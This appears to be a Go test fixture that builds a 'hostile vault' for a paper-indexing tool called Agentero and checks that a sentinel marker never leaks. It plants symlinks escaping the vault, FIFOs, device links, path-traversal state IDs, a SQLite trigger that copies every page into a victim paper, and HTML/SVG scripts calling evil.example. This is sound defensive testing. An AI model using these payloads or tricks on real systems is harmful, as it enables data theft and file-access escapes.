//go:build unix

// Package hostilevault builds, in a test's temp folder, the vault a hostile
// colleague could share (issue 13): symlinks in every position Agentero
// reads, FIFOs, links to devices, a 100 MB metadata.json, HTML and SVG in
// paper folders, a planted index whose trigger copies every page into one
// paper, planted conversation state, and beside the vault the files those
// links lead to, each holding Marker. A test runs Agentero on it and checks
// that Marker never shows (Leaks), that nothing appears or changes outside
// the vaults (Snapshot before and after), that nothing hangs, and that the
// good papers still index.
package hostilevault

import (
	"bytes"
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/agentero/agentero/backend/index"
	"github.com/agentero/agentero/internal/corpustest"
)

// Marker is the text every file outside the vaults holds. It must never
// appear in an index, in any output, or in any file Agentero writes. It is
// one word, so a search for it finds it wherever it was indexed.
const Marker = "zqxsentinel7f3c9e"

// Where a planted file must be reported; see Plant.Report.
const (
	ReportIndex   = "index"   // `index --json` names it (skipped, warnings or errors)
	ReportContext = "context" // `context --json` names it (issues or imports)
	ReportNone    = "none"    // nothing of it is indexed; it need not be named
	ReportAny     = "any"     // a plain file inside the vault: content like any other
)

// Plant is one hostile file.
type Plant struct {
	Vault  string // which vault: "root", "linked" or "guided"
	Path   string // vault-relative, slash separated
	What   string // what it is, for messages
	Report string // Report* : where it must show
}

// Vault is the fixture: three vaults and the folder outside them, all in
// one parent folder that nothing else writes to.
type Vault struct {
	Parent string // holds the vaults and Outside; nothing may appear or change in it but inside the vaults
	Root   string // the hostile vault
	Linked string // a vault whose .agentero is a link out of it (and holds a planted index)
	// LinkedIndex is a vault whose .agentero/index.sqlite is a link out
	// of it, to a planted index.
	LinkedIndex string
	Guided      string // a vault whose AGENTS.md links out of it
	Outside     string // the files the links lead to, each holding Marker

	Good   []string // refs of the papers that must index: real corpus papers and generated ones
	Victim string   // the paper the planted index's trigger copies every page into
	Plants []Plant
}

// Corpus papers the fixture lays out as its good papers.
const (
	Bitcoin  = "papers/bitcoin"
	Peercoin = "papers/peercoin"
)

// Build lays the fixture out in a new temp folder. It needs the shared
// corpus (two papers) and a system with FIFOs and symlinks.
func Build(t testing.TB) *Vault {
	t.Helper()
	parent := t.TempDir()
	v := &Vault{
		Parent:      parent,
		Root:        filepath.Join(parent, "vault"),
		Linked:      filepath.Join(parent, "linked-vault"),
		LinkedIndex: filepath.Join(parent, "linked-index-vault"),
		Guided:      filepath.Join(parent, "guided-vault"),
		Outside:     filepath.Join(parent, "outside"),
		Victim:      Peercoin,
	}
	v.outside(t)
	v.root(t)
	v.linked(t)
	v.guided(t)
	return v
}

// outside writes the files the vaults' links lead to: each kind of file
// Agentero reads, holding Marker where a reader would take it in.
func (v *Vault) outside(t testing.TB) {
	t.Helper()
	files := map[string]string{
		"sentinel.md":        "# Private notes\n\n" + Marker + " is the private word.\n",
		"private.bib":        "@article{private, title={" + Marker + " Private Grant Proposal}, author={Someone Else}, year={2020}}\n",
		"agentero-cite.json": `{"schemaVersion":1,"source":{"mode":"zotero"},"citations":[{"id":"1","metadata":{"title":"` + Marker + ` cited"},"status":"unresolved"}],"messages":[]}`,
		"metadata.json":      `{"title":"` + Marker + ` title","abstract":"` + Marker + ` abstract"}`,
		"doc.md":             "---\ndescription: " + Marker + "\ntrigger: always_on\npriority: critical\n---\n" + Marker + " context document\n",
		"citing-scan.json":   `{"schemaVersion":1,"papers":{"papers/bitcoin":{"scanKey":"x","mode":"agentero-pdf","citations":1,"note":"` + Marker + `","cites":[]}}}`,
		"state.json":         `{"id":"linked","surface":"quickChat","messages":[{"id":"m1","role":"user","content":"` + Marker + ` question"}]}`,
		"transcript.jsonl":   `{"turn":"m1","kind":"user","text":"` + Marker + ` question"}` + "\n",
		"paper/paper.pdf":    string(PDF(Marker + " private paper")),
		"private.pdf":        string(PDF(Marker + " private PDF")),
		"state/README.md":    Marker + " state folder\n",
	}
	for rel, body := range files {
		writeFile(t, v.Outside, rel, body)
	}
}

// root lays out the hostile vault.
func (v *Vault) root(t testing.TB) {
	t.Helper()
	root := v.Root
	corpustest.LayOut(t, root, "bitcoin.pdf", "peercoin.pdf")
	v.Good = append(v.Good, Bitcoin, Peercoin)
	out := func(rel string) string { return filepath.Join(v.Outside, filepath.FromSlash(rel)) }
	plant := func(p Plant, make func(abs string)) {
		t.Helper()
		p.Vault = "root"
		abs := filepath.Join(root, filepath.FromSlash(p.Path))
		if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
			t.Fatal(err)
		}
		make(abs)
		v.Plants = append(v.Plants, p)
	}
	link := func(target string) func(string) {
		return func(abs string) {
			if err := os.Symlink(target, abs); err != nil {
				t.Fatal(err)
			}
		}
	}
	fifo := func(abs string) {
		if err := syscall.Mkfifo(abs, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	file := func(body string) func(string) {
		return func(abs string) {
			if err := os.WriteFile(abs, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	sparse := func(size int64) func(string) {
		return func(abs string) {
			f, err := os.Create(abs)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if err := f.Truncate(size); err != nil {
				t.Fatal(err)
			}
		}
	}

	// Good content beside the hostile files.
	writeFile(t, root, "notes/good.md", "A good note about consensus and the longest chain.\n")
	writeFile(t, root, ".agentero/context/ok.md", "---\ndescription: House rules\ntrigger: always_on\n---\nCite pages.\n")
	writeFile(t, root, "CLAUDE.md", "Answer from the papers.\n<!-- @import notes/imported.md -->\n<!-- @import notes/fifo.md -->\n"+
		"<!-- @import notes/zero.md -->\n<!-- @import notes/good.md -->\n")
	for _, p := range []struct{ ref, title string }{{"papers/huge-meta", "Huge Metadata Paper"}, {"papers/zero-meta", "Zero Metadata Paper"}, {"papers/fifo-meta", "Fifo Metadata Paper"}} {
		writeFile(t, root, p.ref+"/paper.pdf", string(PDF(p.title+": a paper whose metadata.json is hostile")))
		v.Good = append(v.Good, p.ref)
	}

	// A paper's folder, PDF, metadata.json, notes, reference files and
	// sidecar, as links out of the vault, FIFOs and device links.
	plant(Plant{Path: "papers/linked-folder", What: "a paper folder linking out of the vault", Report: ReportNone}, link(out("paper")))
	plant(Plant{Path: "papers/evil/a.pdf", What: "a PDF linking out of the vault", Report: ReportIndex}, link(out("private.pdf")))
	plant(Plant{Path: "papers/evil/b.pdf", What: "a FIFO named like a PDF", Report: ReportIndex}, fifo)
	plant(Plant{Path: "papers/evil/c.pdf", What: "a PDF linking to /dev/random", Report: ReportIndex}, link("/dev/random"))
	plant(Plant{Path: Bitcoin + "/metadata.json", What: "metadata.json linking out of the vault", Report: ReportIndex}, link(out("metadata.json")))
	plant(Plant{Path: Bitcoin + "/NOTES.md", What: "notes linking out of the vault", Report: ReportIndex}, link(out("sentinel.md")))
	plant(Plant{Path: Bitcoin + "/source/outside.bib", What: "a .bib linking out of the vault", Report: ReportIndex}, link(out("private.bib")))
	plant(Plant{Path: Bitcoin + "/source/climb.bib", What: "a .bib climbing out of the vault", Report: ReportIndex}, link("../../../../outside/private.bib"))
	plant(Plant{Path: Bitcoin + "/source/zero.bib", What: "a .bib linking to /dev/zero", Report: ReportIndex}, link("/dev/zero"))
	plant(Plant{Path: Bitcoin + "/source/x.bib", What: "a FIFO named x.bib", Report: ReportIndex}, fifo)
	plant(Plant{Path: Bitcoin + "/source/agentero-cite.json", What: "a sidecar linking out of the vault", Report: ReportIndex}, link(out("agentero-cite.json")))
	plant(Plant{Path: Bitcoin + "/evil.html", What: "HTML with a script in a paper folder", Report: ReportAny},
		file(`<html><body><script>window.go.main.App.OpenExternal("https://evil.example")</script>html page</body></html>`))
	plant(Plant{Path: Bitcoin + "/figure.svg", What: "SVG with a script in a paper folder", Report: ReportAny},
		file(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example')"><text>svg</text></svg>`))
	plant(Plant{Path: "papers/huge-meta/metadata.json", What: "a 100 MB metadata.json (sparse)", Report: ReportIndex}, sparse(100<<20))
	plant(Plant{Path: "papers/zero-meta/metadata.json", What: "metadata.json linking to /dev/zero", Report: ReportIndex}, link("/dev/zero"))
	plant(Plant{Path: "papers/fifo-meta/metadata.json", What: "metadata.json as a FIFO", Report: ReportIndex}, fifo)

	// Text files a directory grant covers, and what CLAUDE.md imports.
	plant(Plant{Path: "notes/leak.md", What: "a note linking out of the vault", Report: ReportIndex}, link(out("sentinel.md")))
	plant(Plant{Path: "notes/imported.md", What: "an import linking out of the vault", Report: ReportContext}, link(out("sentinel.md")))
	plant(Plant{Path: "notes/zero.md", What: "a note linking to /dev/zero", Report: ReportContext}, link("/dev/zero"))
	plant(Plant{Path: "notes/fifo.md", What: "a note as a FIFO", Report: ReportContext}, fifo)
	plant(Plant{Path: "notes/outside-dir", What: "a folder linking out of the vault", Report: ReportNone}, link(v.Outside))

	// Context documents.
	plant(Plant{Path: ".agentero/context/leak.md", What: "a context document linking out of the vault", Report: ReportContext}, link(out("doc.md")))
	plant(Plant{Path: ".agentero/context/fifo.md", What: "a context document as a FIFO", Report: ReportContext}, fifo)
	plant(Plant{Path: ".agentero/context/zero.md", What: "a context document linking to /dev/zero", Report: ReportContext}, link("/dev/zero"))

	// Agentero's own files.
	plant(Plant{Path: ".agentero/citing-scan.json", What: "the citing scan linking out of the vault", Report: ReportNone}, link(out("citing-scan.json")))
	plant(Plant{Path: ".agentero/chats/fifo-compaction/compaction.json", What: "a conversation's compaction as a FIFO", Report: ReportNone}, fifo)
	writeFile(t, root, ".agentero/chats/fifo-compaction/state.json", `{"id":"fifo-compaction","surface":"quickChat","messages":[{"id":"m1","role":"user","content":"hello"}]}`)
	writeFile(t, root, ".agentero/chats/fifo-compaction/transcript.jsonl", `{"turn":"m1","kind":"user","text":"hello"}`+"\n")
	plant(Plant{Path: ".agentero/index.sqlite", What: "a planted index whose trigger copies every page into " + v.Victim, Report: ReportNone},
		func(abs string) { plantIndex(t, abs, v.Victim) })
	plant(Plant{Path: ".agentero/chats/x/state.json", What: `planted state: id "../../../elsewhere", runtimeId "../../../runtime"`, Report: ReportNone},
		file(`{"id":"../../../elsewhere","surface":"quickChat","runtimeId":"../../../runtime","messages":[]}`))
	plant(Plant{Path: ".agentero/chats/linked/state.json", What: "conversation state linking out of the vault", Report: ReportNone}, link(out("state.json")))
	plant(Plant{Path: ".agentero/chats/linked/transcript.jsonl", What: "a transcript linking out of the vault", Report: ReportNone}, link(out("transcript.jsonl")))
	plant(Plant{Path: ".agentero/chats/fifo/state.json", What: "conversation state as a FIFO", Report: ReportNone}, fifo)
}

// linked lays out two vaults with one good paper each: one whose
// .agentero links out of it, to a folder holding an index that already has
// the paper, titled with Marker; one whose .agentero/index.sqlite links to
// another such index.
func (v *Vault) linked(t testing.TB) {
	t.Helper()
	corpustest.LayOut(t, v.Linked, "bitcoin.pdf")
	state := filepath.Join(v.Outside, "state")
	markedIndex(t, filepath.Join(state, "index.sqlite"))
	if err := os.Symlink(state, filepath.Join(v.Linked, ".agentero")); err != nil {
		t.Fatal(err)
	}
	v.Plants = append(v.Plants, Plant{Vault: "linked", Path: ".agentero", What: ".agentero linking out of the vault, to a planted index", Report: ReportNone})

	corpustest.LayOut(t, v.LinkedIndex, "bitcoin.pdf")
	markedIndex(t, filepath.Join(v.Outside, "state2", "index.sqlite"))
	if err := os.MkdirAll(filepath.Join(v.LinkedIndex, ".agentero"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(v.Outside, "state2", "index.sqlite"), filepath.Join(v.LinkedIndex, ".agentero", "index.sqlite")); err != nil {
		t.Fatal(err)
	}
	v.Plants = append(v.Plants, Plant{Vault: "linked-index", Path: ".agentero/index.sqlite", What: "index.sqlite linking out of the vault, to a planted index", Report: ReportNone})
}

// markedIndex writes at path an index with Agentero's schema that holds
// the paper papers/bitcoin, titled with Marker.
func markedIndex(t testing.TB, path string) {
	t.Helper()
	db, err := index.Open(path, index.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.SQL().Exec(`INSERT INTO papers (ref, pdf_path, title, status) VALUES ('papers/bitcoin', 'papers/bitcoin/bitcoin.pdf', ?, 'ok')`, Marker+" title"); err != nil {
		t.Fatal(err)
	}
}

// guided lays out a vault whose guidance file links out of it.
func (v *Vault) guided(t testing.TB) {
	t.Helper()
	if err := os.MkdirAll(v.Guided, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(v.Outside, "sentinel.md"), filepath.Join(v.Guided, "AGENTS.md")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, v.Guided, "CLAUDE.md", "fall-through guidance\n")
	v.Plants = append(v.Plants, Plant{Vault: "guided", Path: "AGENTS.md", What: "AGENTS.md linking out of the vault", Report: ReportContext})
}

// plantIndex writes at path an index with Agentero's schema and a trigger
// that copies every page inserted into the paper victim, whose grant would
// then read every other paper's text.
func plantIndex(t testing.TB, path, victim string) {
	t.Helper()
	db, err := index.Open(path, index.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.SQL().Exec(`CREATE TRIGGER hostile_copy AFTER INSERT ON pages BEGIN
		INSERT OR IGNORE INTO pages (paper_id, page, label, text)
		SELECT id, 100000 + NEW.id, '', NEW.text FROM papers WHERE ref = '` + victim + `' AND id != NEW.paper_id;
	END`); err != nil {
		t.Fatal(err)
	}
}

// Snapshot describes every file under the parent folder but inside the
// vaults (where Agentero may write): path, type and content hash. Two
// snapshots differ when a file appeared, vanished or changed outside the
// vaults.
func (v *Vault) Snapshot(t testing.TB) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(v.Parent, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if p == v.Root || p == v.Linked || p == v.LinkedIndex || p == v.Guided {
			return filepath.SkipDir
		}
		rel, _ := filepath.Rel(v.Parent, p)
		desc := d.Type().String()
		if d.Type().IsRegular() {
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			sum := sha256.Sum256(data)
			desc += " " + hex.EncodeToString(sum[:8])
		}
		out[rel] = desc
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// Leaks returns where Marker shows in the vault's files: every regular file
// under root (links and FIFOs are not followed or opened), and every value
// of every table of each SQLite file there, read through SQLite (a page's
// text may be split across database pages, and FTS5 compresses its terms).
func Leaks(t testing.TB, root string) []string {
	t.Helper()
	var out []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.Type().IsRegular() {
			return nil
		}
		if info, err := d.Info(); err != nil || info.Size() > 64<<20 {
			return err // the planted 100 MB metadata.json: zeros
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		if bytes.Contains(bytes.ToLower(data), []byte(Marker)) {
			out = append(out, rel)
		}
		if strings.HasSuffix(p, ".sqlite") {
			for _, where := range dbLeaks(t, p) {
				out = append(out, rel+": "+where)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

// dbLeaks reads every table of the SQLite file at path and returns the
// tables and rows where Marker shows.
func dbLeaks(t testing.TB, path string) []string {
	t.Helper()
	db, err := sql.Open("sqlite3", "file:"+(&url.URL{Path: path}).EscapedPath()+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.Query(`SELECT name FROM sqlite_master WHERE type = 'table'`)
	if err != nil {
		return []string{"unreadable: " + err.Error()}
	}
	var tables []string
	for rows.Next() {
		var name string
		rows.Scan(&name)
		tables = append(tables, name)
	}
	rows.Close()
	var out []string
	for _, table := range tables {
		r, err := db.QueryContext(context.Background(), `SELECT * FROM "`+strings.ReplaceAll(table, `"`, `""`)+`"`)
		if err != nil {
			continue // an FTS5 shadow table a plain SELECT cannot read
		}
		cols, _ := r.Columns()
		n := 0
		for r.Next() {
			n++
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if r.Scan(ptrs...) != nil {
				continue
			}
			for i, val := range vals {
				var s string
				switch x := val.(type) {
				case string:
					s = x
				case []byte:
					s = string(x)
				}
				if strings.Contains(strings.ToLower(s), Marker) {
					out = append(out, fmt.Sprintf("%s row %d column %s", table, n, cols[i]))
				}
			}
		}
		r.Close()
	}
	return out
}

// PDF returns a one-page PDF whose page says text (ASCII, no parentheses
// or backslashes), in Helvetica.
func PDF(text string) []byte {
	content := "BT /F1 12 Tf 72 720 Td (" + text + ") Tj ET"
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		"<< /Length " + strconv.Itoa(len(content)) + " >>\nstream\n" + content + "\nendstream",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	offsets := make([]int, 0, len(objects))
	for i, o := range objects {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, xref)
	return b.Bytes()
}

func writeFile(t testing.TB, root, rel, body string) {
	t.Helper()
	p := filepath.Join(root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}
